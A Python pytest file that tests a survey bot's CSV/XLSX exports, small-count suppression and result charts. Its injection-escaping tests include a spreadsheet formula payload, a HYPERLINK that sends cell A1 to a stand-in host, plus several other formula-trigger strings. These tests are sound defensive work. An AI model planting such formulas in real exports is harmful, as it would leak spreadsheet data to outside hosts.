"""Survey exports opened the way a coordinator's tools open them (csv module, openpyxl) and the
result chart; the data is the sample survey of test_survey_results."""

from __future__ import annotations

import codecs
import csv
import dataclasses
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from bot.core.i18n import Translator
from bot.services import charts, survey_export
from bot.services.survey_export import ExportMeta, escape_formula, filename, result_chart, to_csv, to_xlsx
from bot.services.survey_results import summarize
from tests.services.test_survey_results import DEFINITION, SAMPLE, classified, response, sample_results

META = ExportMeta(
    survey_title="Engagement-Erhebung 2026",
    survey_number=3,
    group_name="Netzwerk Ruhr",
    anonymous=True,
    started=datetime(2026, 3, 1, 9, 0, tzinfo=UTC),
    closed=None,
    definition_version=1,
)
FORMULA = '=HYPERLINK("http://x.example/?"&A1;"Klick")'
TRICKY = {  # description of activity 1 of respondent 1 -> how the CSV must show it
    "=1+1": "'=1+1",
    "+49 201 123": "'+49 201 123",
    "-5 Bäume gepflanzt": "'-5 Bäume gepflanzt",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\tversteckt": "'\tversteckt",
    "\rzurück": "'\rzurück",
    'Lesen; "Vorlesen"\nund mehr': 'Lesen; "Vorlesen"\nund mehr',
    "Hausaufgabenhilfe": "Hausaufgabenhilfe",
}


def with_description(description: str):
    """The sample's activities with the first activity's description replaced."""
    _, activities = classified()
    return [dataclasses.replace(activities[0], description=description), *activities[1:]]


def read_csv(data: bytes, delimiter: str) -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


# CSV -----------------------------------------------------------------------------------------


def test_csv_german_one_row_per_activity():
    _, activities = classified()
    rows = read_csv(to_csv(META, activities, DEFINITION, "de"), ";")
    header, body = rows[0], rows[1:]
    assert header == [
        "Befragte Nr.",
        "Art",
        "Organisation",
        "Tätigkeit Nr.",
        "Beschreibung",
        "Form",
        "Stunden pro Monat",
        "Personen",
        "EUR pro Jahr",
        "Sachgüter",
        "Sachwert in EUR",
        "Zählt",
        "Nicht erfüllt",
    ]
    assert len(body) == 12
    assert body[0] == ["1", "Person", "", "1", "Tätigkeit 1", "direkt", "10", "2", "", "", "", "ja", ""]
    assert body[1][-2:] == ["nein", "nicht freiwillig"]
    stiftung = body[4]
    assert stiftung[:6] == ["3", "Stiftung", "Bürgerstiftung", "2", "Tätigkeit 2", "indirekt"]
    assert stiftung[8:11] == ["1200", "Laptops", "300"]
    kommune_not_counted = body[6]
    assert kommune_not_counted[-2:] == ["nein", "nicht gemeinwohlorientiert, profitorientiert"]
    assert body[7][6] == "12,5"  # decimal comma
    # Raw rows are the data: a single Stiftung's figures are not hidden here.
    assert body[3][8] == "5000"


def test_csv_english_uses_comma_and_decimal_point():
    _, activities = classified()
    rows = read_csv(to_csv(META, activities, DEFINITION, "en"), ",")
    assert rows[0][:2] == ["Respondent no.", "Kind"]
    assert rows[8][6] == "12.5"
    assert rows[2][1] == "Person" and rows[4][1] == "Foundation"
    assert rows[2][-2] == "no" and rows[2][-1] == "not voluntary"


@pytest.mark.parametrize(("description", "expected"), list(TRICKY.items()))
def test_csv_escapes_formulas(description, expected):
    rows = read_csv(to_csv(META, with_description(description), DEFINITION, "de"), ";")
    assert rows[1][4] == expected
    assert rows[1][6] == "10"  # numbers are never escaped


def test_escape_formula():
    assert escape_formula("=A1") == "'=A1"
    assert escape_formula("a=b") == "a=b"
    assert escape_formula("") == ""


def test_filename():
    assert filename(META, "csv", "de") == "umfrage-3.csv"
    assert filename(META, "xlsx", "en") == "survey-3.xlsx"


# XLSX ----------------------------------------------------------------------------------------


def open_xlsx(language: str = "de", description: str | None = None):
    results, activities = sample_results()
    if description is not None:
        activities = with_description(description)
    return load_workbook(io.BytesIO(to_xlsx(META, results, activities, DEFINITION, language)))


def rows_of(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_xlsx_sheets_in_the_language():
    assert open_xlsx("de").sheetnames == ["Tätigkeiten", "Summen", "Definition"]
    assert open_xlsx("en").sheetnames == ["Activities", "Totals", "Definition"]


def test_xlsx_activities_are_numbers():
    rows = rows_of(open_xlsx()["Tätigkeiten"])
    assert rows[0][0] == "Befragte Nr."
    assert len(rows) == 13
    assert rows[1] == [1, "Person", None, 1, "Tätigkeit 1", "direkt", 10, 2, None, None, None, "ja", None]
    assert rows[8][6] == 12.5 and isinstance(rows[8][6], float)
    assert rows[5][8:11] == [1200, "Laptops", 300]
    assert rows[7][-2:] == ["nein", "nicht gemeinwohlorientiert, profitorientiert"]


def test_xlsx_keeps_user_text_as_text():
    sheet = open_xlsx(description=FORMULA)["Tätigkeiten"]
    cell = sheet.cell(row=2, column=5)
    assert cell.data_type == "s"
    assert cell.value == FORMULA
    error_like = open_xlsx(description="#N/A")["Tätigkeiten"].cell(row=2, column=5)
    assert (error_like.data_type, error_like.value) == ("s", "#N/A")


def totals_table(rows: list[list]) -> dict[tuple[str, str | None], list]:
    """The totals rows of the "Summen" sheet by (section, cell)."""
    start = next(i for i, row in enumerate(rows) if row[0] == "Aufschlüsselung")
    table = {}
    for row in rows[start + 1 :]:
        if row[0] is None:
            break
        table[(row[0], row[1])] = row[2:11]
    return table


def test_xlsx_totals_with_small_cells():
    rows = rows_of(open_xlsx()["Summen"])
    facts = {row[0]: row[1] for row in rows[:10]}
    assert facts["Umfrage"] == "Nr. 3: Engagement-Erhebung 2026"
    assert facts["Anonym"] == "ja"
    assert facts["Gestartet"] == "01.03.2026, 10:00"
    assert facts["Geschlossen"] == "noch offen"
    assert facts["Version der Definition"] == 1
    assert (
        facts["Befragte (abgeschlossene Antworten)"],
        facts["davon gezählt"],
        facts["davon nicht gezählt"],
    ) == (
        7,
        8,
        4,
    )
    table = totals_table(rows)
    assert table[("Gesamt", "alle gezählten Tätigkeiten")] == [7, 8, 58.5, 11.25, 9, 6550, 725, 1100, 550]
    assert table[("Form des Engagements", "direkt")] == [4, 4, 58.5, 11.25, 9, 250, 250, 0, None]
    assert table[("Form des Engagements", "indirekt")][:2] == [3, 4]  # three respondents: shown
    assert table[("Art der Befragten", "Person")] == [4, 4, 28.5, 10, 4, 100, 100, 0, None]
    for kind in ("Stiftung", "Kommune", "Verein"):  # one respondent each
        assert table[("Art der Befragten", kind)] == ["< 3"] * 9
    failed = rows[rows.index(["Nicht erfülltes Kriterium", "Nicht gezählte Tätigkeiten", *[None] * 9]) + 1 :]
    assert [row[:2] for row in failed] == [
        ["Name freiwillig", 2],
        ["Name gemeinwohl", 1],
        ["Name nicht_profit", 1],
        ["Name beitrag", 1],
    ]


def test_xlsx_two_respondents_suppressed_total_shown():
    respondents, activities = classified(SAMPLE[:6])  # indirect: respondents 3 and 4 only
    results = summarize(respondents, activities, DEFINITION)
    book = load_workbook(io.BytesIO(to_xlsx(META, results, activities, DEFINITION, "de")))
    table = totals_table(rows_of(book["Summen"]))
    assert table[("Form des Engagements", "indirekt")] == ["< 3"] * 9
    assert table[("Gesamt", "alle gezählten Tätigkeiten")][:2] == [6, 7]
    assert len(rows_of(book["Tätigkeiten"])) == 1 + 10  # the raw rows are all there


def test_xlsx_definition_sheet():
    rows = rows_of(open_xlsx("en")["Definition"])
    assert rows[0][:2] == ["Definition version", 1]
    assert rows[1][:2] == ["Title", "Definition of engagement"]
    header = rows.index(
        ["Id", "Criterion", "Question", "Explanation", "Example that does not count", "Reason when not met"]
    )
    criteria = rows[header + 1 :]
    assert [row[0] for row in criteria] == [c.id for c in DEFINITION.criteria]
    assert criteria[1] == [
        "freiwillig",
        "Name freiwillig (en)",
        "Is the activity freiwillig?",
        "Erklärung freiwillig",  # no English text: the German one
        "z. B. Gegenbeispiel freiwillig",
        "not voluntary",
    ]


# Chart ---------------------------------------------------------------------------------------


def drawn(monkeypatch, results) -> tuple[bytes | None, list]:
    """The chart and the arguments it was drawn with."""
    calls = []
    real = charts.bar_chart

    def spy(title, labels, values, **options):
        calls.append((title, list(labels), list(values), options))
        return real(title, labels, values, **options)

    monkeypatch.setattr(survey_export.charts, "bar_chart", spy)
    return result_chart(results, Translator("de")), calls


def test_chart_pools_small_kinds(monkeypatch):
    results, _ = sample_results()
    png, calls = drawn(monkeypatch, results)
    assert png is not None and png.startswith(b"\x89PNG")
    ((title, labels, values, options),) = calls
    assert title == "Gezählte Tätigkeiten nach Art der Befragten"
    # Stiftung, Kommune and Verein have one respondent each: together they are three.
    assert labels == [
        "Person: 28,5 Std./Monat · 100 €/Jahr · Sachwerte 0 €",
        "weitere: 30 Std./Monat · 6.450 €/Jahr · Sachwerte 1.100 €",
    ]
    assert values == [4, 4]
    assert options["subtitle"] == "7 Antworten · gezählt: 8 von 12 Tätigkeiten"


def test_chart_leaves_out_a_pool_too_small(monkeypatch):
    respondents, activities = classified([*SAMPLE[:2], SAMPLE[4], SAMPLE[2], SAMPLE[3]])
    results = summarize(respondents, activities, DEFINITION)
    png, calls = drawn(monkeypatch, results)
    assert png is not None and png.startswith(b"\x89PNG")
    ((_, labels, values, _),) = calls
    assert [label.split(":")[0] for label in labels] == ["Person"]
    assert values == [3]


def test_chart_none_without_anything_to_draw():
    assert result_chart(summarize([], [], DEFINITION), Translator("de")) is None
    not_counted = [response(activities=[{"mode": "direct", "hours": 3, "no": ("freiwillig",)}])]
    assert result_chart(summarize(*classified(not_counted), DEFINITION), Translator("de")) is None
    two_orgs = [
        response("organisation", "stiftung", "A", activities=[{"mode": "indirect", "money": 10}]),
        response("organisation", "kommune", "B", activities=[{"mode": "indirect", "money": 10}]),
    ]
    assert result_chart(summarize(*classified(two_orgs), DEFINITION), Translator("de")) is None


def test_chart_by_the_definition_when_no_kind_can_be_shown(monkeypatch):
    """Two organisations of different kinds: no kind may be drawn, but the activities against
    the definition can (no breakdown by respondent)."""
    two_orgs = [
        response("organisation", "stiftung", "A", activities=[{"mode": "indirect", "money": 10}]),
        response("person", None, None, activities=[{"mode": "direct", "hours": 3, "no": ("freiwillig",)}]),
    ]
    results = summarize(*classified(two_orgs), DEFINITION)
    calls = []
    real = charts.bar_chart

    def spy(title, labels, values, **options):
        calls.append((title, list(labels), list(values)))
        return real(title, labels, values, **options)

    monkeypatch.setattr(survey_export.charts, "bar_chart", spy)
    png = result_chart(results, Translator("de"), DEFINITION)
    assert png is not None and png.startswith(b"\x89PNG")
    ((title, labels, values),) = calls
    assert title.startswith("Tätigkeiten nach der Definition")
    assert labels == ["zählt als Engagement", "zählt nicht: nicht freiwillig"]
    assert values == [1, 1]
